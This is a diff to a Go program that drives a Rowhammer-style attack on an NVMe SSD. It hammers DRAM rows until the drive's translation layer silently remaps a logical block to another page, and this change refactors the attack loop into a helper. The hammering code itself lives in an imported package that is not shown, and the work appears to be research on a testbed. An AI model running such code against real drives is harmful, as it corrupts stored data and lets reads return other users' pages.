@@ -77,28 +77,21 @@ func main() {
 	h := &attack.DeviceHammerer{Dev: dev, NS: ns, Path: nvme.PathDirect}
 	pat := attack.DoublePattern()
 	pat.Iterations = attack.HammerBudget(dev, 2)
-	for n, b := range bindings {
-		if _, err := attack.PrepareVictimLines(dev, ns, b); err != nil {
-			log.Fatal(err)
-		}
-		before := attack.SnapshotVictimLines(tb.FTL, b)
-		fast, err := attack.PinAndTrim(dev, ns, nvme.PathDirect, b)
-		if err != nil {
-			log.Fatal(err)
-		}
-		if err := h.Hammer(fast, pat); err != nil {
-			log.Fatal(err)
-		}
-		if r := before.Remaps(tb.FTL); len(r) > 0 {
-			fmt.Printf("hammered rows %v around victim row %d (bank %d)\n",
-				b.Triple.AggRows, b.Triple.VictimRow, b.Triple.Bank)
-			fmt.Printf("BITFLIP: LBA %d silently remapped PPN %#x -> %#x\n", r[0].LBA, r[0].Old, r[0].New)
-			fmt.Println("-> reads of that LBA now return another page's data")
-			return
-		}
-		if n > 16 {
-			break
-		}
+	prepare := func(b attack.Binding) error {
+		_, err := attack.PrepareVictimLines(dev, ns, b)
+		return err
 	}
-	fmt.Println("no flips with this seed — try another")
+	i, r, err := attack.FirstRedirect(h, bindings, 18, pat, prepare)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if i < 0 {
+		fmt.Println("no flips with this seed — try another")
+		return
+	}
+	b := bindings[i]
+	fmt.Printf("hammered rows %v around victim row %d (bank %d)\n",
+		b.Triple.AggRows, b.Triple.VictimRow, b.Triple.Bank)
+	fmt.Printf("BITFLIP: LBA %d silently remapped PPN %#x -> %#x\n", r[0].LBA, r[0].Old, r[0].New)
+	fmt.Println("-> reads of that LBA now return another page's data")
 }
